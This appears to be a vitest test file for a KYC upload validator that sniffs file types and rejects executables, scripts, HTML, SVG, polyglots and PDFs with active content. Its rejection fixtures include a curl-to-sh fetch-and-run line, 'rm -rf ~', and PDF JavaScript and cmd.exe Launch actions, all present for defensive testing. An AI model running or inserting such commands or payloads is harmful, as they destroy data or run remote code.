import { Buffer } from 'node:buffer';
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { VigilError } from '../core/errors.js';
import { type AcceptedMime, checkUpload, sniffFileType } from './file-type.js';

const bytes = (...parts: (string | number[] | Uint8Array)[]): Uint8Array =>
  Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p))));

/** A PDF whose xref offsets are right, so real readers open it; objects are numbered from 1. */
function pdf(objects: string[], trailerExtra = ''): Uint8Array {
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = body.length;
  const entries = offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R${trailerExtra} >>\nstartxref\n${xref}\n%%EOF\n`;
  return bytes(body);
}

const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>';
const MINIMAL_PDF = pdf([CATALOG, PAGES, PAGE]);
const withCatalog = (catalog: string, ...more: string[]): Uint8Array => pdf([catalog, PAGES, PAGE, ...more]);
const objectStream = (content: string, filter = '/Filter /FlateDecode'): string => {
  const data = filter.includes('Flate') ? deflateSync(Buffer.from(content, 'latin1')).toString('latin1') : content;
  return `<< /Type /ObjStm /N 1 /First 4 /Length ${data.length} ${filter} >>\nstream\n${data}\nendstream`;
};

const PNG_1X1 = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');
const JPEG = bytes([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10], 'JFIF', [0x00, 0x01, 0x01]);
const WEBP = bytes('RIFF', [0x24, 0, 0, 0], 'WEBPVP8 ');
const heif = (brand: string): Uint8Array => bytes([0, 0, 0, 0x18], `ftyp${brand}`, [0, 0, 0, 0], 'mif1heic');
const ELF = bytes([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]);
const MZ = bytes('MZ', [0x90, 0x00, 0x03, 0x00]);
const SHELL = bytes('#!/bin/sh\ncurl http://example.test/x | sh\n');
const MAX = 1024 * 1024;

function rejection(run: () => unknown): VigilError {
  try {
    run();
  } catch (err) {
    if (err instanceof VigilError) return err;
    throw err;
  }
  throw new Error('expected a VigilError');
}

describe('sniffFileType', () => {
  const cases: [string, Uint8Array, AcceptedMime | null][] = [
    ['a minimal valid PDF', MINIMAL_PDF, 'application/pdf'],
    ['a PDF header after 100 bytes of junk, as readers accept', bytes('x'.repeat(100), '%PDF-1.7\n'), 'application/pdf'],
    ['a PDF header beyond the first 1024 bytes', bytes(' '.repeat(1100), '%PDF-1.7\n'), null],
    ['a 1×1 PNG', PNG_1X1, 'image/png'],
    ['a PNG with only half its signature', PNG_1X1.subarray(0, 4), null],
    ['a JPEG header', JPEG, 'image/jpeg'],
    ['a WebP header', WEBP, 'image/webp'],
    ['a RIFF file that is not WebP (WAV)', bytes('RIFF', [0x24, 0, 0, 0], 'WAVEfmt '), null],
    ['a HEIC ftyp box', heif('heic'), 'image/heic'],
    ['a HEIF ftyp box with brand mif1', heif('mif1'), 'image/heic'],
    ['an AVIF ftyp box', heif('avif'), null],
    ['a GIF', bytes('GIF89a', [1, 0, 1, 0]), null],
    ['an empty buffer', new Uint8Array(0), null],
  ];
  it.each(cases)('reads %s', (_, input, expected) => {
    expect(sniffFileType(input)).toBe(expected);
  });

  it('builds a PDF whose startxref points at its xref table', () => {
    const text = Buffer.from(MINIMAL_PDF).toString('latin1');
    const offset = Number(/startxref\n(\d+)/.exec(text)?.[1]);
    expect(text.slice(offset, offset + 4)).toBe('xref');
  });
});

describe('checkUpload accepts', () => {
  const cases: [string, Uint8Array, { declaredMime?: string; fileName?: string }, AcceptedMime][] = [
    ['a PDF with a matching name and type', MINIMAL_PDF, { declaredMime: 'application/pdf', fileName: 'statement.pdf' }, 'application/pdf'],
    ['a PNG without name or type', PNG_1X1, {}, 'image/png'],
    ['a JPEG declared with the image/jpg alias', JPEG, { declaredMime: 'image/jpg', fileName: 'ID.JPEG' }, 'image/jpeg'],
    ['a HEIC declared as image/heif', heif('heic'), { declaredMime: 'image/heif', fileName: 'IMG_0001.HEIC' }, 'image/heic'],
    ['a WebP declared with parameters', WEBP, { declaredMime: 'image/webp; q=1', fileName: 'scan.webp' }, 'image/webp'],
    ['a file the browser could not type', MINIMAL_PDF, { declaredMime: 'application/octet-stream', fileName: 'scan' }, 'application/pdf'],
    ['a Windows path from an old browser', MINIMAL_PDF, { fileName: 'C:\\fakepath\\scan.pdf' }, 'application/pdf'],
    ['a name whose last dot is not an extension', PNG_1X1, { fileName: 'scan from 12.3 mm.png' }, 'image/png'],
    ['a PDF with a clean compressed object stream', withCatalog(CATALOG, objectStream('4 0 << /Type /Annot >>')), {}, 'application/pdf'],
    ['a PDF whose image data happens to hold "/JS"', withCatalog(CATALOG, '<< /Length 8 >>\nstream\n\x00/JS \x01\x02\nendstream'), {}, 'application/pdf'],
  ];
  it.each(cases)('%s', (_, input, opts, mime) => {
    expect(checkUpload(input, { maxBytes: MAX, ...opts })).toEqual({ mime });
  });

  it('accepts a file of exactly maxBytes', () => {
    expect(checkUpload(JPEG, { maxBytes: JPEG.length })).toEqual({ mime: 'image/jpeg' });
  });
});

describe('checkUpload rejects', () => {
  const macho = (magic: number[]): Uint8Array => bytes(magic, [7, 0, 0, 1]);
  const cases: [string, Uint8Array, string, RegExp][] = [
    ['an empty file', new Uint8Array(0), 'KYC_UPLOAD_EMPTY', /empty/],
    ['an ELF executable', ELF, 'KYC_UPLOAD_TYPE_REJECTED', /ELF/],
    ['a Windows executable', MZ, 'KYC_UPLOAD_TYPE_REJECTED', /Windows executable/],
    ['an executable carrying a PDF header', bytes('MZ', ' '.repeat(60), '%PDF-1.4\n'), 'KYC_UPLOAD_TYPE_REJECTED', /Windows executable/],
    ['a 32-bit big-endian Mach-O', macho([0xfe, 0xed, 0xfa, 0xce]), 'KYC_UPLOAD_TYPE_REJECTED', /Mach-O executable/],
    ['a 64-bit big-endian Mach-O', macho([0xfe, 0xed, 0xfa, 0xcf]), 'KYC_UPLOAD_TYPE_REJECTED', /Mach-O executable/],
    ['a 32-bit little-endian Mach-O', macho([0xce, 0xfa, 0xed, 0xfe]), 'KYC_UPLOAD_TYPE_REJECTED', /Mach-O executable/],
    ['a 64-bit little-endian Mach-O', macho([0xcf, 0xfa, 0xed, 0xfe]), 'KYC_UPLOAD_TYPE_REJECTED', /Mach-O executable/],
    ['a Mach-O universal binary', bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]), 'KYC_UPLOAD_TYPE_REJECTED', /universal binary/],
    ['a 64-bit Mach-O universal binary', bytes([0xca, 0xfe, 0xba, 0xbf, 0, 0, 0, 2]), 'KYC_UPLOAD_TYPE_REJECTED', /universal binary/],
    ['a Java class file', bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34]), 'KYC_UPLOAD_TYPE_REJECTED', /Java class/],
    ['a shell script', SHELL, 'KYC_UPLOAD_TYPE_REJECTED', /script/],
    ['a ZIP (or DOCX)', bytes('PK\x03\x04', [0x14, 0, 0, 0]), 'KYC_UPLOAD_TYPE_REJECTED', /ZIP/],
    ['an HTML page', bytes('<!DOCTYPE html><html><body>hi</body></html>'), 'KYC_UPLOAD_TYPE_REJECTED', /HTML/],
    ['markup after a BOM and blank lines', bytes([0xef, 0xbb, 0xbf], '\n  <script>alert(1)</script>'), 'KYC_UPLOAD_TYPE_REJECTED', /HTML/],
    ['an SVG image', bytes('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'KYC_UPLOAD_TYPE_REJECTED', /SVG/],
    ['a shell script without a shebang', bytes('rm -rf ~\n'), 'KYC_UPLOAD_TYPE_REJECTED', /plain text/],
    ['a GIF', bytes('GIF89a', [1, 0, 1, 0, 0x80]), 'KYC_UPLOAD_TYPE_REJECTED', /unrecognised type \(first bytes 47 49 46 38\)/],
    ['a JPEG that is also a PDF', bytes(JPEG, '%PDF-1.4\n'), 'KYC_UPLOAD_TYPE_REJECTED', /polyglot/],
  ];
  it.each(cases)('%s', (_, input, code, message) => {
    const err = rejection(() => checkUpload(input, { maxBytes: MAX }));
    expect(err.code).toBe(code);
    expect(err.message).toMatch(message);
  });

  it('rejects a file larger than maxBytes as too large', () => {
    const err = rejection(() => checkUpload(new Uint8Array(MAX + 1).fill(0xff), { maxBytes: MAX }));
    expect(err).toMatchObject({ code: 'KYC_UPLOAD_TOO_LARGE', kind: 'too_large', context: { size: MAX + 1, maxBytes: MAX } });
  });

  it('rejects everything when the limit is not a number', () => {
    expect(rejection(() => checkUpload(JPEG, { maxBytes: Number.NaN })).code).toBe('KYC_UPLOAD_TOO_LARGE');
  });
});

describe('checkUpload rejects PDFs with active content', () => {
  const cases: [string, Uint8Array, RegExp][] = [
    ['a JavaScript open action', withCatalog('<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', '<< /S /JavaScript /JS (app.alert(1)) >>'), /\/JavaScript/],
    ['a bare /JS entry', withCatalog('<< /Type /Catalog /Pages 2 0 R /AA << /O << /JS 4 0 R >> >> >>', '(x)'), /\/JS\b/],
    ['a hex-escaped /J#61vaScript', withCatalog('<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /JS (x) >> >>'), /\/JavaScript/],
    ['a launch action', withCatalog('<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>'), /\/Launch/],
    ['an embedded file', withCatalog('<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 4 0 R >> >>', '<< /Names [] >>'), /\/EmbeddedFiles/],
    ['JavaScript hidden in a compressed object stream', withCatalog(CATALOG, objectStream('5 0 << /S /JavaScript /JS (x) >>')), /inside a compressed object stream/],
    ['a /JS entry hidden in a compressed object stream', withCatalog(CATALOG, objectStream('5 0 << /JS (x) >>')), /\/JS\) inside/],
    ['an object stream it cannot decode', withCatalog(CATALOG, objectStream('5 0 << >>', '/Filter /LZWDecode')), /cannot be inspected/],
    ['a corrupt compressed object stream', withCatalog(CATALOG, '<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot zlib\nendstream'), /cannot be inspected/],
    ['an encrypted object stream', pdf([CATALOG, PAGES, PAGE, objectStream('5 0 << >>')], ' /Encrypt 9 0 R'), /cannot be inspected/],
  ];
  it.each(cases)('%s', (_, input, message) => {
    const err = rejection(() => checkUpload(input, { maxBytes: MAX, declaredMime: 'application/pdf' }));
    expect(err.code).toBe('KYC_UPLOAD_TYPE_REJECTED');
    expect(err.message).toMatch(message);
  });
});

describe('checkUpload refuses content that contradicts its name or declared type', () => {
  const cases: [string, Uint8Array, { declaredMime?: string; fileName?: string }, RegExp][] = [
    ['a PDF renamed scan.jpg', MINIMAL_PDF, { fileName: 'scan.jpg' }, /application\/pdf but the file name ends in \.jpg/],
    ['JPEG bytes declared as image/png', JPEG, { declaredMime: 'image/png' }, /image\/jpeg but it was declared as image\/png/],
    ['a PDF declared as text/plain', MINIMAL_PDF, { declaredMime: 'text/plain' }, /declared as text\/plain/],
    ['a PDF named .pdf.exe', MINIMAL_PDF, { fileName: 'scan.pdf.exe' }, /\.exe/],
    ['a name that opens as .html on Windows', MINIMAL_PDF, { fileName: 'scan.html. ' }, /\.html/],
    ['a PNG named .heic', PNG_1X1, { declaredMime: 'image/png', fileName: 'photo.heic' }, /\.heic/],
  ];
  it.each(cases)('%s', (_, input, opts, message) => {
    const err = rejection(() => checkUpload(input, { maxBytes: MAX, ...opts }));
    expect(err).toMatchObject({ code: 'KYC_UPLOAD_TYPE_MISMATCH', kind: 'unsupported_media' });
    expect(err.message).toMatch(message);
  });

  it('keeps the file name, which may hold personal data, out of the message and context', () => {
    const err = rejection(() => checkUpload(MINIMAL_PDF, { maxBytes: MAX, fileName: 'passport-jane-doe.jpg' }));
    expect(JSON.stringify({ message: err.message, context: err.context })).not.toContain('jane');
  });
});
